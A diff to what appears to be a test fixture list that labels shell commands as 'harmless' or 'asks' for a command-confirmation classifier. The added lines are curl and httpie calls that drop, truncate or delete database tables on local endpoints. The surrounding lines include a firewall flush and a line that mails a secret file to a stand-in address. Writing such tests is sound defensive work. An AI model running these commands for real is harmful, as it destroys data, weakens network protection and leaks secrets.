@@ -142,4 +142,13 @@ EXAMPLES = (
     ("ip addr", "harmless"),
     ("iptables -F", "asks"),
     ("mail -s hi a@b.example < secret.txt", "asks"),
+    ("curl -XPUT localhost:9200/_cluster/settings -d '{\"persistent\":{}}'", "asks"),
+    ("curl localhost:9200/_cluster/settings", "harmless"),
+    ("curl localhost:8123 -d 'drop table x'", "asks"),
+    ("curl 'http://localhost:8123/?query=DROP+TABLE+x'", "asks"),
+    ('curl --json \'{"stmt":"DELETE FROM x"}\' localhost:4200/_sql', "asks"),
+    ("http POST localhost:4200/_sql stmt='truncate x'", "asks"),
+    ("echo 'DROP TABLE x' | curl localhost:8123 -d @-", "asks"),
+    ("curl localhost:8123 -d 'SELECT 1'", "harmless"),
+    ('curl -X POST localhost:3000/api -d \'{"action":"delete item"}\'', "harmless"),
 )
